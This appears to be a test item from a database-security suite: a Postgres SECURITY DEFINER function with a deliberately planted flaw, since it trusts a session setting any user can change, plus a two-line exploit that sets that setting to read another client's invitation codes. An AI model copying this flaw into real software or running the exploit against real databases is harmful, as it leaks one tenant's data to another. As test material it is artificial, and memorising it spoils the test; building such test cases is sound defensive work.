-- mutant: A definer function believes a setting that anybody can make
-- base: flows
-- family: function
-- leaks: values of another client
create function flows.my_invitation_codes() returns setof text
language sql stable security definer set search_path = ''
as $$ select i.invitation_code from flows.invitations i where i.client_id = coalesce(
  nullif(current_setting('support.impersonated_client', true), '')::uuid, flows.current_client_id()) $$;
revoke all on function flows.my_invitation_codes() from public;
grant execute on function flows.my_invitation_codes() to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
select set_config('support.impersonated_client', '{{b}}', true);
select * from flows.my_invitation_codes() c where c = 'canary-globex';
